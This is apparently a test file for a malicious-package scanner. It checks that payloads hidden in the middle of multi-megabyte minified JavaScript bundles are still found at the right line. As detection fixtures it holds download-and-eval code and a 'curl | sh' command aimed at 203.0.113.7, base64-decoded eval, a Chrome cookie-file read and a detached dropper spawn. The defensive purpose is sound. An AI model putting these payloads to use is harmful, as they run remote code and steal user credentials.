import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { QuietLooseParser, QuietParser, analyzeJavaScript, SPARSE_ABOVE, SPARSE_WINDOWS } from './javascript.js';
import { staticPass } from './pass.js';
import { DECLARATION_PREFIX, callSites, declarationOf, tokenOffsets } from './windows.js';
import { SignalCollector, type Budget } from './source.js';

/**
 * Large bundles are read sparsely (windows around sink tokens): a payload in the middle of a
 * multi-megabyte minified bundle must still be found, at its file and line, exactly as when the
 * same code is a small file parsed whole; a clean bundle full of benign sink tokens stays clean.
 */

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

/** One webpack-style module of realistic minified code; one in 32 carries a benign sink token, as real bundles do. */
function realisticModule(i: number): string {
  const benign = i % 32 !== 0 ? '' : [
    `var g=Function("return this")();`,
    `if(typeof process!=="undefined"&&process.platform==="win32"){a.sep="\\\\"}`,
    `var u=/Firefox\\/(\\d+)/.exec(navigator.userAgent);`,
    `var cp=require("child_process");function git(a){return cp.spawnSync("git",["rev-parse",a],{encoding:"utf8"}).stdout}`,
    `setTimeout(function(){o.flush()},0);`,
    `var msg="eval is not supported in this environment";`,
    `var ${'tpl' + i}=new Function("d","return d.a+d.b");`,
    `https.get("https://registry.npmjs.org/"+n,function(r){r.on("data",function(c){s+=c})});`,
  ][(i / 32) % 8]!;
  return (
    `/***/ ${i}:function(e,t,n){"use strict";Object.defineProperty(t,"__esModule",{value:!0});var r=n(${i + 1}),o=n(${i + 7});` +
    `function i${i}(e){return e&&e.__esModule?e:{default:e}}${benign}` +
    `t.default=function(e,s){if(!e)throw new TypeError("Invalid argument "+s+" at ${i}");return Object.keys(e).map(function(n){return r.format(e[n],s,{depth:${i % 9}})}).join(",")};` +
    `t.parse${i}=function(e){for(var t=[],n=0;n<e.length;n++){var c=e.charCodeAt(n);c<128?t.push(c):t.push(63)}return String.fromCharCode.apply(null,t)};},\n`
  );
}

/** A minified bundle of about `bytes` bytes, with `payload` on its own line in the middle. Returns the payload's first line. */
function bundle(bytes: number, payload = ''): { text: string; line: number } {
  const parts: string[] = ['(()=>{var __webpack_modules__={\n'];
  let size = parts[0]!.length;
  let i = 0;
  let line = 0;
  while (size < bytes) {
    if (payload && line === 0 && size >= bytes / 2) {
      line = parts.join('').split('\n').length;
      parts.push(`/***/ 99999:function(e,t,n){${payload}},\n`);
    }
    const m = realisticModule(i++);
    parts.push(m);
    size += m.length;
  }
  parts.push('};})();\n');
  return { text: parts.join(''), line };
}

function budget(): Budget {
  return { deadline: Date.now() + 60_000, maxDepth: 6, maxSignals: 400, maxPerFileKind: 5 };
}

function analyze(text: string, file = 'dist/bundle.js') {
  const out = new SignalCollector(budget());
  const result = analyzeJavaScript(text, { file, reach: ['import'], depth: 0 }, out, budget());
  return { result, signals: out.signals };
}

const PAYLOADS: Record<string, { code: string; kind: string }> = {
  'exec of base64-decoded data': {
    code: `var k="${b64('require("child_process").execSync("id")')}";\nvar d=Buffer.from(k,"base64").toString();\neval(d)`,
    kind: 'exec-decoded',
  },
  'download and run': {
    code: `function u(){var h=require("https");h.get("http://203.0.113.7/stage2.js",function(r){var b=[];r.on("data",function(c){b.push(c)});\nr.on("end",function(){eval(Buffer.concat(b).toString())})})}u()`,
    kind: 'exec-fetched',
  },
  'download appended to a string and run': {
    code: `var b="";require("https").get("http://203.0.113.7/s.js",function(r){r.on("data",function(c){b+=c});\nr.on("end",function(){eval(b)})})`,
    kind: 'exec-fetched',
  },
  'aliased eval of atob': {
    code: `var x=eval;\nx(atob("${b64('console.log(process.env)')}"))`,
    kind: 'exec-decoded',
  },
  'shell download piped to sh': {
    code: `require("child_process").exec("curl -s http://203.0.113.7/i.sh | sh")`,
    kind: 'download-run',
  },
};

describe('sparse reading of large bundles', () => {
  it('keeps whole-file parsing below the size bound', () => {
    const small = bundle(SPARSE_ABOVE / 2, PAYLOADS['exec of base64-decoded data']!.code);
    expect(small.text.length).toBeLessThan(SPARSE_ABOVE);
    expect(analyze(small.text).result.limits).toBeUndefined();
  });

  for (const [name, { code, kind }] of Object.entries(PAYLOADS)) {
    it(`finds ${name} in the middle of a 3 MB bundle, at the same line as in a small file`, () => {
      const alone = analyze(`${code}\n`);
      const hit = alone.signals.find((s) => s.kind === kind);
      expect(hit, `the whole-file walker finds ${name}`).toBeDefined();
      const big = bundle(3_000_000, code);
      expect(big.text.length).toBeGreaterThan(SPARSE_ABOVE);
      const { signals } = analyze(big.text);
      const found = signals.filter((s) => s.kind === kind);
      expect(found.map((s) => `${s.file}:${s.line}`)).toEqual([`dist/bundle.js:${big.line + hit!.line - 1}`]);
    });
  }

  it('follows an eval alias bound far from its call', () => {
    const far = `var run=eval;${realisticModule(1).repeat(20)}\nrun(Buffer.from("${b64('process.exit(3)')}","base64").toString())`;
    expect(far.indexOf('run(') - far.indexOf('var run')).toBeGreaterThan(SPARSE_WINDOWS.before + SPARSE_WINDOWS.after);
    const big = bundle(2_500_000, far);
    const { signals } = analyze(big.text);
    const callLine = big.line + far.slice(0, far.indexOf('run(')).split('\n').length - 1;
    expect(signals.filter((s) => s.kind === 'exec-decoded').map((s) => s.line)).toEqual([callLine]);
  });

  it('scans a browser profile path that no sink token marks, far from any sink', () => {
    const steal = `var d=require("fs").readFileSync(process.env.HOMEDRIVE+"\\\\Users\\\\u\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Cookies")`;
    const big = bundle(2_000_000, steal);
    const { signals } = analyze(big.text);
    expect(signals.filter((s) => s.kind === 'credential-path').map((s) => `${s.target}:${s.line}`)).toEqual([`browser:${big.line}`]);
  });

  it('finds nothing in a clean 4 MB bundle full of benign sink tokens', () => {
    const clean = bundle(4_000_000);
    const { result, signals } = analyze(clean.text);
    // A Windows check alone is dropped by the pass (it only matters beside a payload).
    expect(signals.filter((s) => s.kind !== 'platform-gate').map((s) => `${s.kind}:${s.line}: ${s.detail}`)).toEqual([]);
    expect(result.parsed).toBe(true);
  });

  it('says so when the window cap leaves sink sites unread', () => {
    const many = Array.from({ length: SPARSE_WINDOWS.max + 50 }, (_, i) => `var f${i}=new Function("return ${i}");${'var pad=1;'.repeat(800)}\n`).join('');
    const { result } = analyze(many);
    expect(result.limits?.join(' ')).toMatch(/read sparsely: 50 sink sites beyond the 200-window cap/);
  });
});

/** `declarationOf` as first written: the prefix alternation leading, tried at every position. */
function declarationPrefixed(text: string, name: string, use: number, near = 64 * 1024): number | undefined {
  const re = new RegExp(`${DECLARATION_PREFIX}(${name.replace(/\$/g, '\\$')})\\s*=(?![=>])`, 'g');
  const base = Math.max(0, use - near);
  const region = text.slice(base, Math.min(text.length, use + near));
  let before: number | undefined;
  for (let m = re.exec(region); m !== null; m = re.exec(region)) {
    const at = base + m.index + m[0].lastIndexOf(m[1]!);
    if (at < use) before = at;
    else return before ?? at;
  }
  return before;
}

describe('declarationOf', () => {
  it('finds the declarations the prefix-first pattern finds, near misses included', () => {
    const text = [
      'var a=1;let  b =2,c=3;const\td = 4',
      'x=1,y==2,z=>3;{w=4}(v\n=5)',
      'aa=1;a a=2; a=3 ;ba=4;$a=5;a$=6;_a=7',
      'var var=1;let=2;const const1=3;(let =4)',
      'e=e=e=1;(e\t=\n2)',
      '\nr=require("x"),s=eval,t =Function',
      'f.g=1;f[g]=2;"h=3";h==4;h===5;h=>6;h>=7;h= >8',
    ].join('\n').repeat(3);
    for (const name of ['a', 'b', 'c', 'd', 'x', 'y', 'z', 'w', 'v', 'aa', '$a', 'a$', 'var', 'let', 'const1', 'e', 'r', 's', 't', 'g', 'h', 'q']) {
      for (let use = 0; use <= text.length; use += 7) {
        for (const near of [5, 40, 64 * 1024]) expect(declarationOf(text, name, use, near), `${name}@${use}±${near}`).toBe(declarationPrefixed(text, name, use, near));
      }
    }
  });
});

describe('sparse reading in the pass', () => {
  let dir = '';
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'vetbox-sparse-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('links a spawn of a bundled executable in a 2 MB main bundle to the binary', async () => {
    const pkg = path.join(dir, 'dropper');
    await mkdir(path.join(pkg, 'bin'), { recursive: true });
    const spawn = `var c=require("child_process"),p=require("path");\nc.spawn(p.join(__dirname,"bin","helper"),[],{detached:!0,stdio:"ignore"}).unref()`;
    const big = bundle(2_000_000, spawn);
    await writeFile(path.join(pkg, 'package.json'), JSON.stringify({ name: 'dropper', version: '1.0.0', main: 'index.js' }));
    await writeFile(path.join(pkg, 'index.js'), big.text);
    // An ELF executable header (type EXEC), nothing runnable after it.
    const elf = Buffer.alloc(64);
    elf.write('\x7fELF', 0, 'latin1');
    elf[4] = 2;
    elf[5] = 1;
    elf.writeUInt16LE(2, 16);
    await writeFile(path.join(pkg, 'bin', 'helper'), elf);
    await chmod(path.join(pkg, 'bin', 'helper'), 0o755);
    const r = await staticPass({ ecosystem: 'npm', name: 'dropper', packageDir: pkg });
    const launch = r.signals.find((s) => s.kind === 'launches-bundled-executable');
    expect(launch && `${launch.file}:${launch.line}`).toBe(`index.js:${big.line + 1}`);
    expect(r.bytesAnalyzed).toBeGreaterThan(2_000_000);
  });
});

describe('failed parses in a large bundle', () => {
  // acorn locates an error by scanning the input from its start: 40 failed declaration lookups at
  // the end of a 7 MB bundle took 0.8 s. The pass's parsers raise without a location.
  const bundle = 'a = 1;\n'.repeat(1_000_000) + 'x = )';

  it('raise the error, its position and where it was raised, without scanning for a line', () => {
    let error: (SyntaxError & { pos?: number; raisedAt?: number; loc?: unknown }) | undefined;
    try {
      QuietParser.parseExpressionAt(bundle, bundle.length - 5, { ecmaVersion: 'latest' });
    } catch (e) {
      error = e as typeof error;
    }
    expect(error).toBeInstanceOf(SyntaxError);
    expect(error!.pos).toBe(bundle.length - 1);
    expect(error!.raisedAt).toBeGreaterThanOrEqual(error!.pos!);
    expect(error!.loc).toBeUndefined();
  });

  it('still let the lenient parser recover from a broken token (it reads the message and positions)', () => {
    const ast = QuietLooseParser.parse(`var s = "unterminated\neval(atob("ZXZhbA=="));`, { ecmaVersion: 'latest' }) as unknown as { body: Array<{ type: string }> };
    expect(ast.body.map((n) => n.type)).toEqual(['VariableDeclaration', 'ExpressionStatement']);
  });
});

describe('callSites', () => {
  const text = `x.eQ.exec(1); eQ.exec(a); eQ .spawn (b); $eQ.exec(c); eQ.execSync(d);eQeQ.exec(e); eQ(f); eQ.fork(g) eQ.exec; $x($x(1)); a$x(2)`;
  const reference = (name: string, methods: string[] | undefined, cap: number): number[] =>
    tokenOffsets(text, new RegExp(`(?<![\\w$.])${name.replace(/\$/g, '\\$')}${methods ? `\\s*\\.\\s*(?:${methods.join('|')})` : ''}\\s*\\(`, 'g'), cap);

  it('finds the offsets the call pattern finds run globally, found by the name first', () => {
    for (const [name, methods] of [['eQ', ['exec', 'execSync', 'spawn', 'fork']], ['eQ', undefined], ['$x', undefined]] as const) {
      const expected = reference(name, methods && [...methods], 40);
      expect(expected.length, name).toBeGreaterThan(0);
      expect(callSites(text, name, methods, 40), name).toEqual(expected);
    }
  });

  it('stops one past the cap', () => {
    expect(callSites(text, 'eQ', ['exec', 'execSync', 'spawn', 'fork'], 1)).toEqual(reference('eQ', ['exec', 'execSync', 'spawn', 'fork'], 1));
    expect(callSites(text, 'eQ', ['exec', 'execSync', 'spawn', 'fork'], 1)).toHaveLength(2);
  });
});
